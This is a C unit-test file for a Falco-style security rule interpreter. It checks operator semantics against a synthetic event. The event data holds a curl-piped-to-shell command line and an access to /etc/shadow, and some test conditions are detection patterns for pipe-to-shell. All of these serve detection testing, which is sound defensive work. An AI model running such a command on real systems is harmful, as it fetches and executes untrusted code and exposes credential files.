/* Tests of the interpreter and the operator semantics (irop_rt): each case is
 * a rule condition evaluated on one event whose field values are given as a
 * table, with the expected outcome from Falco's documented semantics. */
#include <arpa/inet.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "compiler/fields.h"
#include "compiler/interp.h"
#include "compiler/ir.h"
#include "compiler/ruleset.h"
#include "runtime/base/strbuf.h"

/* The event: field text -> value. */
struct fv {
	const char *field;	/* as ir_opnd_format prints it */
	struct fval v;
};

static const struct fval list_items[] = {
	{ .kind = FV_STR, .s = { "file", 4 } },
	{ .kind = FV_STR, .s = { "ipv4", 4 } },
};

static struct fv event[24];
static size_t nevent;

static void set_str(const char *f, const char *s)
{
	event[nevent].field = f;
	event[nevent++].v = fval_str(s, (uint32_t)strlen(s));
}

static void extract(void *ctx, uint32_t id, const struct ir_opnd *o, struct fval *out)
{
	struct strbuf key = STRBUF_INIT;

	(void)ctx;
	(void)id;
	ir_opnd_format(o, &key);
	out->kind = FV_NONE;
	for (size_t i = 0; i < nevent; i++)
		if (!strcmp(event[i].field, key.buf))
			*out = event[i].v;
	strbuf_release(&key);
}

static void setup_event(void)
{
	struct fval ip = { .kind = FV_IP };

	nevent = 0;
	set_str("proc.name", "Bash");
	set_str("proc.cmdline", "bash -c 'curl http://x | sh'");
	set_str("fd.name", "/etc/shadow");
	set_str("proc.pname", "bash");
	set_str("evt.arg[flags]", "O_WRONLY|O_CREAT|O_TRUNC");
	set_str("proc.env[TOKEN]", "aGVsbG8=");
	event[nevent].field = "evt.rawres";
	event[nevent++].v = fval_s64(-2);
	event[nevent].field = "fd.sport";
	event[nevent++].v = fval_u64(443);
	ip.ip.fam = 4;
	inet_pton(AF_INET, "10.1.2.3", ip.ip.b);
	event[nevent].field = "fd.sip";
	event[nevent++].v = ip;
	event[nevent].field = "fd.snet";
	event[nevent++].v = ip;
	event[nevent].field = "fd.types";
	event[nevent].v.kind = FV_LIST;
	event[nevent].v.list.items = list_items;
	event[nevent++].v.list.n = 2;
}

static bool eval(const char *cond)
{
	char text[1024];
	struct ruleset *rs;
	struct interp *ip;
	bool r;

	snprintf(text, sizeof(text),
		 "- rule: r\n  desc: d\n  condition: 'evt.type = open and (%s)'\n  output: o\n"
		 "  priority: INFO\n", cond);
	assert_int_equal(ruleset__new(&rs), 0);
	ruleset__load_text(rs, "t.yaml", text, strlen(text));
	if (ruleset__compile(rs))
		fail_msg("does not compile: %s (%s)", cond, rs->diags.n ? rs->diags.items[0]->msg : "");
	assert_int_equal(interp__new(rs, extract, &ip), 0);
	setup_event();
	event[nevent].field = "evt.type";
	event[nevent++].v = fval_str("open", 4);
	interp_begin_event(ip);
	r = interp_eval_rule(ip, 0, NULL);
	interp__free(ip);
	ruleset__free(rs);
	return r;
}

static void strings(void **state)
{
	(void)state;
	assert_true(eval("proc.name = Bash"));
	assert_false(eval("proc.name = bash"));
	assert_true(eval("proc.name != bash"));
	assert_true(eval("proc.name icontains BAS"));
	assert_false(eval("proc.name contains bas"));
	assert_true(eval("proc.cmdline contains \"| sh\""));
	assert_true(eval("fd.name startswith /etc/"));
	assert_true(eval("fd.name endswith shadow"));
	assert_true(eval("fd.name glob \"/etc/*ad*\""));
	assert_true(eval("proc.name iglob \"b*H\""));
	assert_false(eval("proc.name glob \"b*h\""));
	assert_true(eval("evt.arg.flags contains O_TRUNC"));
	assert_true(eval("proc.name in (sh, Bash)"));
	assert_false(eval("proc.name in (sh, bash)"));
	assert_true(eval("proc.name bstartswith 4261"));	/* "Ba" */
	assert_true(eval("proc.name bcontains 7368"));		/* "sh" */
}

static void regex_is_a_full_match(void **state)
{
	(void)state;
	assert_true(eval("proc.name regex \"B[a-z]+\""));
	assert_false(eval("proc.name regex \"as\""));
	assert_true(eval("proc.cmdline regex \".*curl.*\\\\| *sh.*\""));
}

static void paths(void **state)
{
	(void)state;
	assert_true(eval("fd.name pmatch (/etc, /usr)"));
	assert_true(eval("fd.name pmatch (/etc/shadow)"));
	assert_false(eval("fd.name pmatch (/et, /etc/shadow2)"));
}

static void numbers_and_addresses(void **state)
{
	(void)state;
	assert_true(eval("evt.rawres < 0"));
	assert_true(eval("evt.rawres = -2"));
	assert_false(eval("evt.rawres >= 0"));
	assert_true(eval("fd.sport in (80, 443)"));
	assert_true(eval("fd.sport > 100 and fd.sport <= 443"));
	assert_true(eval("fd.sip = 10.1.2.3"));
	assert_true(eval("fd.snet in (192.168.0.0/16, 10.0.0.0/8)"));
	assert_false(eval("fd.snet in (192.168.0.0/16, 10.2.0.0/16)"));
	assert_true(eval("fd.snet = \"10.1.0.0/16\""));
}

static void missing_values(void **state)
{
	(void)state;
	/* no value: every comparison is false, its negation true */
	assert_false(eval("proc.exepath = x"));
	assert_false(eval("proc.exepath != x"));
	assert_true(eval("not proc.exepath = x"));
	assert_false(eval("proc.exepath exists"));
	assert_true(eval("proc.name exists"));
}

static void lists(void **state)
{
	(void)state;
	assert_true(eval("fd.types intersects (ipv4, unix)"));
	assert_false(eval("fd.types in (ipv4, unix)"));
	assert_true(eval("fd.types in (ipv4, file, unix)"));
}

static void transformers(void **state)
{
	(void)state;
	assert_true(eval("tolower(proc.name) = bash"));
	assert_true(eval("toupper(proc.name) = BASH"));
	assert_true(eval("basename(fd.name) = shadow"));
	assert_true(eval("b64(proc.env[TOKEN]) = hello"));
	assert_true(eval("len(proc.name) = 4"));
	assert_true(eval("tolower(proc.name) = val(proc.pname)"));
	assert_false(eval("proc.name = val(proc.pname)"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(strings),
		cmocka_unit_test(regex_is_a_full_match),
		cmocka_unit_test(paths),
		cmocka_unit_test(numbers_and_addresses),
		cmocka_unit_test(missing_values),
		cmocka_unit_test(lists),
		cmocka_unit_test(transformers),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
